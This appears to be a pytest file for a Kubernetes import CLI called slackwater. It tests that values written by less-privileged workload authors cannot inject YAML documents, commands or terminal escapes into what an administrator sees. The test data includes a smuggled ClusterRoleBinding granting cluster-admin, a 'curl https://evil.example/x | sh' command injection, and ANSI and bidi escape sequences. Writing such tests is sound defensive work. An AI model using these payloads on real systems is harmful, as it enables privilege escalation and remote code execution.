"""`slackwater import sts/x > group.yaml` by an administrator, of a workload whose authors have fewer rights."""

from __future__ import annotations

import re
from typing import Any

import pytest
import yaml

from slackwater.adapters.cluster.paths import STATEFUL_SET
from slackwater.cli.errors import CannotBeImported, OptionMissing
from slackwater.cli.importing.command import as_text, consequences
from slackwater.cli.importing.manifest import Imported, Said, imported
from slackwater.cli.options import in_yaml
from tests.api.manifests import kafka_connection
from tests.cli.test_importing import ENV, SAID, workload

ANOTHERS = """broker:9092
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: mine}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects: [{kind: User, name: tenant, apiGroup: rbac.authorization.k8s.io}]
---
#"""
STEERS = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]")
BREAKS = ("\n", "\r", "\r\n", "\x85", "\u2028", "\u2029")
"""What YAML, or somebody who reads it, takes for the end of a line."""


def owned_by(name: str, kind: str = "App", version: str = "x/v1") -> dict[str, Any]:
    obj = workload()
    obj["metadata"]["ownerReferences"] = [
        {"apiVersion": version, "kind": kind, "name": name, "controller": True, "uid": "1"}
    ]
    return obj


def with_servers(value: str) -> Imported:
    said = Said(connection="main", library=SAID.library)
    return imported(workload(ENV | {"KAFKA_BOOTSTRAP_SERVERS": value}), said, [kafka_connection()])


def documents(text: str) -> list[dict[str, Any]]:
    return [each for each in yaml.safe_load_all(text) if each]


@pytest.mark.parametrize("line_break", BREAKS)
def test_a_variable_stays_in_its_comment(line_break: str) -> None:
    found = with_servers(ANOTHERS.replace("\n", line_break))
    assert documents(as_text("StatefulSet shop/payments", found)) == list(found.documents)


def test_the_name_of_an_owner_stays_in_its_comment() -> None:
    found = imported(owned_by(ANOTHERS), SAID, [])
    text = as_text("StatefulSet shop/payments", found)
    assert documents(text) == list(found.documents)
    assert "add spec.tls and spec.authentication where Kafka asks for them" in text


def test_nobody_is_given_a_command_that_an_owner_reference_wrote() -> None:
    evil = "x; curl https://evil.example/x | sh #"
    with pytest.raises(CannotBeImported) as refused:
        imported(owned_by(evil, "ConsumerGroup", "slackwater.dev/v1alpha1"), SAID, [])
    assert "kubectl" not in str(refused.value)


def test_what_it_says_steers_no_terminal() -> None:
    found = with_servers("\x1b]0;title\x07\x1b[2J\u202ex:1")
    said = "\n".join([as_text("StatefulSet shop/payments", found), *consequences(STATEFUL_SET, "payments", found)])
    assert not STEERS.search(said)
    assert r"\x1b]0;title" in said


def test_each_consequence_is_a_line() -> None:
    found = with_servers("broker:9092\nApplying it is safe.")
    assert not any("\n" in line for line in consequences(STATEFUL_SET, "payments", found))


def test_a_value_of_a_megabyte_is_not_quoted_whole() -> None:
    assert max(map(len, with_servers("b" * 1_000_000).remarks)) < 1_000
    two = workload(ENV | {"GROUP_ID": "g" * 1_000_000})
    with pytest.raises(OptionMissing) as asked:
        imported(two, SAID, [])
    assert len(str(asked.value)) < 1_000


def test_a_manifest_that_steers_is_written_in_escapes_and_is_the_same() -> None:
    evil = {"name": "\u202e\x1b[2J\x9b\u2028\tü", "plain": "Übersee"}
    text = in_yaml(evil)
    assert not STEERS.search(text)
    assert yaml.safe_load(text) == evil
    assert in_yaml({"plain": "Übersee"}) == "plain: Übersee"
